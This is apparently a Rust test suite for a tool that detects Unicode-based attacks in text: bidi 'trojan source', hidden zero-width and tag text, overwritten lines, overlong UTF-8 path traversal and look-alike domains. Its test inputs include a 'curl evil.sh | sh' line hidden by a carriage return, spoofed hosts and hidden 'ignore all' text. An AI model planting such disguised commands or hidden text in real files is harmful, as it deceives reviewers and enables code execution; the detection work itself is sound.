//! Attacks that must be found.

use super::found;
use crate::support::Folder;

/// Returns the codes of the findings.
fn codes(text: impl AsRef<[u8]>) -> Vec<String> {
    found(text, &[]).into_iter().map(|(code, _)| code).collect()
}

#[track_caller]
fn finds(text: impl AsRef<[u8]>, expected: &[&str]) {
    assert_eq!(codes(text), expected);
}

/// Returns the meaning in the report.
fn means(text: &str) -> serde_json::Value {
    let run = Folder::new().pipe(&["audit", "--format", "json"], text);
    run.lines_of_json()[0]["means"].clone()
}

#[test]
fn trojan_source_is_found() {
    // A comment that looks like code: an early return, commented-out code, an extended string.
    finds(
        "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\n",
        &["bidi-override", "bidi-reorder", "bidi-unterminated"],
    );
    assert!(
        codes("if access != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\" {\n")
            .contains(&"bidi-override".into())
    );
    finds("x = \"\u{2067}abc\u{2069}\"\n", &["bidi-reorder"]);
    finds("x = \"\u{2066}abc\u{2069}\"\n", &["bidi-reorder"]);
    finds("x = 1 # \u{2067} return\nnext\n", &["bidi-unterminated"]);
    finds("x = 1 # \u{202B} return", &["bidi-unterminated"]);
    // An isolate inside text from right to left, and one inside another isolate.
    finds("\u{5D0} \u{2067}\u{5D0}\u{2066}x\u{2069}\u{2069}\n", &["bidi-isolate", "bidi-nested"]);
    finds("stray \u{2069} and \u{202C}\n", &["bidi-stray", "bidi-stray"]);
    finds("\u{202E}gpj.exe\u{202C}\n", &["bidi-override"]);
    // The end of an isolate does not close an embedding around it.
    finds(
        "a\u{202A}b\u{2067}c\u{202A}d\u{2069}\n",
        &["bidi-unterminated", "bidi-reorder", "bidi-unterminated"],
    );
    // A thousand open isolates.
    assert_eq!(
        codes("\u{2066}".repeat(1000)).iter().filter(|code| *code == "bidi-unterminated").count(),
        1000
    );
}

#[test]
fn hidden_text_is_found_and_decoded() {
    let tags: String =
        "ignore all".chars().map(|c| char::from_u32(0xE0000 + c as u32).unwrap()).collect();
    finds(format!("hello{tags}!"), &["tag-text"]);
    assert_eq!(means(&format!("hello{tags}!")), "ignore all");
    // These follow a flag but do not form a flag.
    finds(format!("\u{1F3F4}{tags}\u{E007F}"), &["tag-text"]);
    finds("\u{1F3F4}\u{E0075}\u{E0073}\u{E0074}\u{E0078}\u{E007F}", &["tag-sequence"]);
    let bytes = b"run";
    let selectors: String =
        bytes.iter().map(|&byte| char::from_u32(0xE0100 + u32::from(byte) - 16).unwrap()).collect();
    finds(format!("\u{1F600}{selectors}"), &["selector-text"]);
    assert_eq!(means(&format!("\u{1F600}{selectors}")), "run");
    assert_eq!(means("\u{1F600}\u{FE00}\u{E01EF}"), "00 FF");
    finds("a\u{FE0F}b", &["selector-stray"]);
    finds("a\u{E0100}b", &["selector-stray"]);
}

/// Each character without width stands for bits, in the ways of several programs.
#[test]
fn text_in_characters_without_width_is_decoded() {
    const RULE: &str = "zero-width-text";
    let digits = |digits: &str, alphabet: &[char]| -> String {
        digits.chars().map(|digit| alphabet[digit.to_digit(10).unwrap() as usize]).collect()
    };
    let bits = |text: &str, alphabet: [char; 2]| -> String {
        text.bytes().map(|byte| digits(&format!("{byte:08b}"), &alphabet)).collect()
    };
    let text = "attack at dawn";
    for alphabet in [['\u{200B}', '\u{200C}'], ['\u{200D}', '\u{2060}'], ['\u{FEFF}', '\u{200B}']] {
        let hidden = format!("Hello,{} reader", bits(text, alphabet));
        finds(&hidden, &[RULE]);
        assert_eq!(means(&hidden), text);
    }
    assert_eq!(
        means(&format!("a{}", bits("Gr\u{FC}\u{DF}e", ['\u{200B}', '\u{200C}']))),
        "Gr\u{FC}\u{DF}e"
    );
    // A separator between characters of seven bits.
    let parts: Vec<String> =
        text.bytes().map(|byte| digits(&format!("{byte:b}"), &['\u{200C}', '\u{200B}'])).collect();
    let parted = format!("x{}y", parts.join("\u{200D}"));
    finds(&parted, &[RULE]);
    assert_eq!(means(&parted), text);
    // Several readings of two bits each are letters, so none is shown.
    let four: String = b"password"
        .iter()
        .flat_map(|byte| (0..4).rev().map(move |at| byte >> (2 * at) & 3))
        .map(|digit| ['\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}'][usize::from(digit)])
        .collect();
    assert!(codes(format!("a{four}b")).iter().all(|code| code != RULE));
    // Long texts are reported in parts.
    let long = codes(format!("a{}b", bits(&"many words ".repeat(200), ['\u{200B}', '\u{200C}'])));
    assert!(long.len() < 9 && long.iter().all(|code| code == RULE), "{long:?}");
    // Characters that do not hide a text are reported one by one.
    let noise = "\u{200B}\u{200C}\u{200B}\u{200B}\u{200C}".repeat(5);
    finds(format!("a{noise}b"), &["zero-width"; 25]);
    finds(format!("a{}b", "\u{200B}".repeat(40)), &["zero-width"; 40]);
}

#[test]
fn invisible_characters_are_found() {
    finds("pass\u{200B}word", &["zero-width"]);
    finds("a\u{200D}b", &["zero-width"]);
    finds("a\u{200C} b", &["zero-width"]);
    finds("a\u{1F600}\u{200D}b", &["zero-width"]);
    finds("a\u{FEFF}b", &["inner-bom"]);
    finds("const \u{3164} = 1", &["filler"]);
    finds("\u{2800}\u{FFA0}\u{115F}a", &["filler", "filler", "filler"]);
    finds("ab\u{200D}", &["zero-width"]);
    finds("\u{64A}\u{200C} ", &["joiner-stray"]);
}

/// Bits hidden in characters that are valid in their context, but not in this number.
#[test]
fn text_hidden_in_joiners_and_variants_is_found() {
    const STRAY: &str = "joiner-stray";
    const HIDES: &str = "zero-width";
    let bits = "\u{200D}\u{200C}\u{200C}\u{200D}\u{200D}";
    finds(format!("\u{645}\u{6CC}{bits}\u{62E}"), &[STRAY, STRAY, STRAY, HIDES, HIDES]);
    finds(format!("\u{915}\u{94D}{bits}\u{937}"), &[STRAY, STRAY, STRAY, HIDES, HIDES]);
    finds("\u{182E}\u{180B}\u{180C}\u{180D}\u{1823}", &["selector-stray", "selector-stray"]);
    finds("\u{182E}\u{180E}\u{180E}\u{1823}", &[HIDES]);
    // A variant of a letter, followed by a vowel separator.
    finds("\u{1828}\u{180B}\u{180E}\u{1820}", &[]);
}

#[test]
fn controls_of_terminals_are_found() {
    finds("\u{1B}[2J \u{1B}]0;title\u{7}", &["terminal-escape", "terminal-escape", "control"]);
    finds("\u{9B}2J\u{9D}0;t\u{9C}", &["terminal-escape", "terminal-escape", "control"]);
    finds("a\0b\u{8}\u{7F}", &["nul", "control", "control"]);
    finds("a\u{C}b\u{85}c\u{2028}", &["format-effector", "format-effector", "format-effector"]);
}

/// A terminal shows the text after the carriage return over the text before it.
#[test]
fn overwritten_lines_are_found() {
    const RULE: &str = "line-overwritten";
    finds("safe\revil\n", &[RULE]);
    finds("safe\revil", &[RULE]);
    finds("first\nsafe\r\revil\n", &[RULE]);
    finds("first\r\nna\u{EF}ve\r\u{44D}\u{442}\u{43E}\r\nlast\r\n", &[RULE]);
    finds("a\rb\rc\n", &[RULE, RULE]);
    // Too few lines for an old Mac file; or many lines of which one covers the others.
    finds("curl evil.sh | sh #\rls                \r", &[RULE]);
    finds("a\rb\rc", &[RULE, RULE]);
    finds("a\rb\rc\r", &[RULE, RULE]);
    finds(format!("{}ls      ", "a\r".repeat(9)), &[RULE; 9]);
    finds(format!("ls      \r{}", "a\r".repeat(9)), &[RULE; 9]);
    finds(b"a\nb\r\xFF\n", &[RULE, "ill-formed"]);
    finds("a\u{200B}\rb\u{200B}\nc\u{200B}", &["zero-width", RULE, "zero-width", "zero-width"]);
    let utf16: Vec<u8> = "a\nb\rc\n".encode_utf16().flat_map(u16::to_be_bytes).collect();
    assert_eq!(found(&utf16, &["-f", "utf-16be"]), [(RULE.to_owned(), 6)]);
    // Nothing is hidden: normal line ends, those of an old Mac, or no text on one side.
    for text in [
        "a\r\nb\r\n",
        "a\r\r\nb\r\n",
        "a\rb\rc\rd\re\rf\rg\rh\r",
        "a\rb\rc\rd\re\rf\rg\rh\ri",
        "a\r",
        "\ra\n",
        "b\n\r\ra\n",
        "a\nb\r",
        "",
    ] {
        finds(text, &[]);
    }
    // At the ends of blocks.
    for len in 65_530..65_540 {
        finds(format!("\n{}\r\r\nb", "x".repeat(len)), &[]);
        finds(format!("\n{}\r\rb", "x".repeat(len)), &[RULE]);
    }
}

/// These operators have a meaning in formulas and before marks, but not inside words.
#[test]
fn operators_within_words_are_found() {
    for operator in [
        "\u{2060}",
        "\u{2061}",
        "\u{2062}",
        "\u{2063}",
        "\u{2064}",
        "\u{34F}",
        "\u{1D173}",
        "\u{1BCA0}",
    ] {
        finds(format!("pass{operator}word"), &["zero-width"]);
        finds(format!("p{operator}assword"), &["zero-width"]);
        finds(
            format!("\u{43F}\u{430}\u{440}{operator}\u{43E}\u{43B}\u{44C}\u{43D}"),
            &["zero-width"],
        );
        finds(format!("1{operator}2"), &["zero-width"]);
        finds(format!("1{operator}x, {operator}x{operator}"), &["invisible-operator"; 3]);
    }
    finds(
        "x\u{2062}y\u{2062}z, sin\u{2061}x, i\u{2063}j, f\u{2061}(x)",
        &["invisible-operator"; 5],
    );
    finds(
        "a\u{34F}\u{301} \u{5D1}\u{34F}\u{5BC} \u{E01}\u{2060}\u{E02}",
        &["invisible-operator"; 3],
    );
}

/// Words with an operator after each letter, or divided by operators.
#[test]
fn operators_between_letters_are_found() {
    for text in [
        "e\u{2063}v\u{2063}i\u{2063}l",
        "e\u{2062}v\u{2062}i\u{2062}l",
        "r\u{2063}u\u{2063}n",
        "f\u{2061}\u{2062}oo",
        "evil\u{2061}()",
        "the evil\u{2061}()",
        "if\u{2061}x",
        "\u{430}\u{2063}\u{431}\u{432}",
        "user\u{2063}1",
        "\u{43F}\u{440}\u{438}\u{432}\u{435}\u{442}\u{2062}x",
    ] {
        assert!(codes(text).contains(&"zero-width".to_owned()), "{text:?}: {:?}", codes(text));
    }
    for text in [
        "a\u{2062}sin\u{2061}x\u{2062}cos\u{2061}y",
        "the arccos\u{2061}(x) of 2\u{2062}\u{3C0}\u{2062}r, log\u{2061}2, 3\u{2064}\u{BD}",
        "4\u{2062}a\u{2062}c, 5\u{2062}km",
    ] {
        assert!(codes(text).iter().all(|code| code == "invisible-operator"), "{text:?}");
    }
}

#[test]
fn overlong_forms_are_named() {
    finds(b"a\xFC\x80\x80\x80\x80\xAFb", &["overlong-ascii"]);
    finds(b"..\xF8\x80\x80\x80\xAFetc", &["overlong-ascii", "overlong-path"]);
    finds(b"a\xF8\x80\x80\x80\x80b \xF8\x88\x80\x80\x80", &["overlong-nul", "ill-formed"]);
    finds(b"/\xC0\xAE./etc", &["overlong-ascii", "overlong-path"]);
    finds(b"/..\xC0\xAFetc", &["overlong-ascii", "overlong-path"]);
    finds(b"a\xC0\x80b", &["overlong-nul"]);
    finds(b"a\xE0\x82\xA9b", &["overlong"]);
    finds(b"\xED\xA0\x80 \xED\xA0\xBD\xED\xB8\x80", &["surrogate", "irregular-pair"]);
    finds(b"caf\xE9", &["ill-formed"]);
    // A valid path of dots before the overlong form.
    finds(b"/../\xC0\xAF", &["overlong-ascii"]);
}

#[test]
fn words_that_look_like_others_are_found() {
    finds("p\u{430}ypal", &["mixed-script"]);
    finds("\u{440}aypal.com", &["mixed-script"]);
    finds("\u{441}o\u{431}\u{430}\u{43A}\u{430}", &["mixed-script"]);
    finds("\u{3BB}o\u{3B3}\u{3BF}\u{3C2}", &["mixed-script"]);
    finds("GOOGL\u{395}", &["mixed-script"]);
    finds("user_\u{456}d", &["mixed-script"]);
    assert_eq!(means("p\u{430}ypal"), "paypal");
    finds("\u{440}\u{430}\u{443}\u{440}\u{430}l", &["mixed-script"]);
    // All look-alikes are found, in each word.
    let words = "υɴіѕѡар.org bітсоіn αpple tωitter";
    assert_eq!(
        found(words, &[]),
        [0, 20, 32, 40].map(|offset| ("mixed-script".to_owned(), offset))
    );
    for (word, reading) in words
        .split([' ', '.'])
        .filter(|word| *word != "org")
        .zip(["uniswap", "bitcoin", "apple", "twitter"])
    {
        assert_eq!(means(word), reading);
    }
    // The finding is at the letter of the other script.
    let word = "НавигационнаяСcылка";
    assert_eq!(found(word, &[]), [("mixed-script".to_owned(), 28)]);
    assert_eq!(means(word), "НавигационнаяСсылка");
    finds("the \u{430}\u{440}\u{440}\u{4CF}\u{435} brand", &["whole-script-confusable"]);
}

#[test]
fn identifiers_that_look_like_others_are_found() {
    let twin = |offset| vec![("twin-letter".to_owned(), offset)];
    assert_eq!(found("let a = 2; let \u{430} = 3;", &[]), twin(15));
    assert_eq!(found("let \u{430} = 2; let a = 3;", &[]), twin(4));
    let wide: Vec<u8> =
        "let a = 2; let \u{430} = 3;".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(found(wide, &["-f", "utf-16le"]), twin(30));
    let (many, line) = ("let a = 2;\n".repeat(20_000), "let \u{430} = 3;\n");
    assert_eq!(found(format!("{many}{line}{line}"), &[]), twin(many.len() as u64 + 4));
    assert_eq!(found("let b = 2; let \u{430} = 3;", &[]), []);
}

#[test]
fn spellings_of_the_same_text_are_found() {
    finds("cafe\u{301}", &["not-nfc"]);
    finds("caf\u{E9} cafe\u{301}", &["mixed-normalization"]);
    finds("cafe\u{301} caf\u{E9} caf\u{E9}", &["not-nfc", "mixed-normalization"]);
    finds("10 \u{212B}", &["not-nfc"]);
}

#[test]
fn mojibake_is_found_and_decoded() {
    for (text, meant) in [
        ("caf\u{C3}\u{A9}", "\u{E9}"),
        ("it\u{E2}\u{20AC}\u{2122}s", "\u{2019}"),
        ("\u{F0}\u{178}\u{2DC}\u{20AC}", "\u{1F600}"),
        ("\u{EF}\u{BB}\u{BF}text", "\u{FEFF}"),
        ("\u{D0}\u{BD}\u{D0}\u{B5}\u{D1}\u{201A}", "\u{43D}\u{435}\u{442}"),
    ] {
        finds(text, &["mojibake"]);
        assert_eq!(means(text), meant);
    }
}

/// Mojibake that `utf repair` fixes is reported, even if the text could be intended. No hint
/// suggests removing a part of a letter.
#[test]
fn mojibake_that_is_fixed_is_found() {
    finds("\u{C5}\u{81}ukasz Sk\u{C5}\u{201A}odowski\n", &["mojibake", "control", "mojibake"]);
    finds("J\u{C3}\u{BC}rgen\nK\u{C3}\u{B6}ln\n", &["mojibake", "mojibake"]);
    finds("\u{C3}\u{89}TAT D'URGENCE", &["mojibake", "control"]);
    for text in ["PAS\u{C9}\u{BB}, dit-il", "\u{201E}Gro\u{DF}\u{201C}, 1\u{D7}\u{BD}"] {
        finds(text, &[]);
    }
    let hints = |text: &str| -> Vec<String> {
        let run = Folder::new().pipe(&["audit", "--format", "json"], text);
        let lines = run.lines_of_json();
        let controls = lines.iter().filter(|line| line["kind"] == "control");
        controls.map(|line| line["hint"].as_str().unwrap().to_owned()).collect()
    };
    let part =
        "`utf repair` shows the letter that this may be a part of; removing it loses the letter";
    assert_eq!(hints("\u{C5}\u{81}ukasz\n"), [part]);
    assert_eq!(hints("a\u{81}b\n\u{7F}"), ["remove it"; 2]);
    let human = Folder::new().pipe(&["audit"], "\u{C5}\u{81}ukasz\n");
    human.exits(1).shows("help: `utf repair` shows the letter");
}

#[test]
fn noncharacters_are_found() {
    finds("\u{FFFE}\u{FDD0}\u{10FFFF}", &["noncharacter", "noncharacter", "noncharacter"]);
    finds("\u{E000}\u{F0000}", &["private-use", "private-use"]);
    finds("\u{378}", &["unassigned"]);
    finds("\u{FFFC} \u{FFFD}", &["object-replacement", "replacement-character"]);
}

/// Attacks are found in every encoding, with offsets in the file.
#[test]
fn attacks_are_found_in_any_encoding() {
    let text = "naïve \u{1F600}\np\u{430}y \u{202E} x";
    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let le: Vec<u8> = text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
    let find = |text: &[u8], from| found(text, &["-f", from]);
    let code = |code: &str, at| (code.to_owned(), at);
    assert_eq!(
        find(text.as_bytes(), "utf-8"),
        [code("mixed-script", 13), code("bidi-override", 17)]
    );
    assert_eq!(find(&be, "utf-16be"), [code("mixed-script", 20), code("bidi-override", 26)]);
    assert_eq!(find(&le, "utf-32le"), [code("mixed-script", 36), code("bidi-override", 48)]);
    let signed =
        [b"\xFF\xFE".to_vec(), "\u{202E}".encode_utf16().flat_map(u16::to_le_bytes).collect()]
            .concat();
    assert_eq!(find(&signed, "auto"), [code("bidi-override", 2)]);
    assert_eq!(find(b"p+BDA-ypal", "utf-7"), [code("mixed-script", 1)]);
    assert_eq!(find(b"a\x1B", "windows-1252"), [code("terminal-escape", 1)]);
}

/// A no-break space in code breaks it, although nobody sees that. Only files that are code by their
/// name are examined, so French text does not have these findings.
#[test]
fn odd_spaces_in_source_code() {
    let folder = crate::support::Folder::new();
    let text =
        "int x =\u{A0}1; // 5\u{A0}= 5\nsay(\"Bonjour\u{A0}!\");\n\u{A0}\u{A0}return\u{3000}x;\n";
    for name in ["a.c", "a.JS", "a.py", "Makefile"] {
        folder.file(name, text);
        let run = folder.run(&["audit", "--format", "json", name]).exits(1);
        let lines = run.lines_of_json();
        let found = lines.iter().filter(|line| line["type"] == "finding");
        let found: Vec<_> =
            found.map(|line| (&line["kind"], &line["offset"], &line["line"])).collect();
        let at = |offset: u64, line: u64| (offset.into(), line.into());
        let expected = [at(7, 1), at(41, 3), at(51, 3)];
        let kind = serde_json::Value::from("odd-space");
        let expected: Vec<_> =
            expected.iter().map(|(offset, line)| (&kind, offset, line)).collect();
        assert_eq!(found, expected, "{name}");
        folder.run(&["audit", "--allow", "odd-space", name]).exits(0);
        folder.run(&["audit", "--allow", "U+00A0,U+3000", name]).exits(0);
    }
    for name in ["a.txt", "a.md", "a.html", "a"] {
        folder.file(name, text);
        folder.run(&["audit", name]).exits(0);
    }
    // A shell takes each no-break space as a part of a word. The first line tells a shell, too.
    let script = "apt\u{A0}install curl\ncat a |\u{A0}wc\n";
    for (name, first) in [("a.sh", ""), ("Dockerfile", ""), ("run", "#!/bin/sh\n")] {
        folder.file(name, format!("{first}{script}"));
        let run = folder.run(&["audit", name]).exits(1);
        assert_eq!(run.text().matches("warning[odd-space]").count(), 2, "{name}");
    }
    folder.file("b.txt", script);
    folder.run(&["audit", "b.txt"]).exits(0);
    folder.pipe(&["audit"], text).exits(0);
    // The context shows the character.
    folder.run(&["audit", "a.c"]).exits(1).shows("U+00A0 NO-BREAK SPACE, byte 7");
}

#[test]
fn letters_that_look_like_ascii() {
    let folder = crate::support::Folder::new();
    for (text, code) in [
        ("ｓｕｄｏ rm a\n", "ascii-look-alike"),
        ("𝐬𝐮𝐝𝐨 rm a\n", "ascii-look-alike"),
        ("раура rm a\n", "ascii-look-alike"),
        ("curl https://аррӏе.com/a\n", "confusable-host"),
    ] {
        folder.file("a.sh", text);
        folder.run(&["audit", "a.sh"]).exits(1).shows(&format!("warning[{code}]"));
    }
    folder.file("a.sh", "grep –r “a” b\n");
    folder.run(&["audit", "a.sh"]).exits(0);
    folder.run(&["audit", "--show", "note", "a.sh"]).exits(0).shows("note[smart-punctuation]");
    folder.file("a.txt", "раура, ｓｕｄｏ, “a” – b\n");
    folder.run(&["audit", "a.txt"]).exits(0);
}
